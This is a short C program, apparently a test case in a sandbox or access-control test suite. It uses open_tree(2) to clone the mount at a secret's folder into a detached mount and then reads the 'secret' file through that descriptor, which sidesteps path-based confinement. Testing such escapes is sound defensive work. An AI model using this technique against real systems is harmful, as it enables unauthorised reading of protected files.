// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Clones the mount at the secret's folder by open_tree(2): a mount that hangs nowhere, so the path has no beginning.
 */
#include "attack.h"
#include <sys/mount.h>

int main(int argc, char **argv)
{
	const char *what = argv[argc - 1];
	char path[64];
	int tree =
		(int)step(open_tree(AT_FDCWD, what, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE), "open_tree");
	struct stat status;

	step(fstat(tree, &status), "fstat");
	if (S_ISDIR(status.st_mode))
		steal_at(tree, "secret");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", tree);
	steal(path);
}
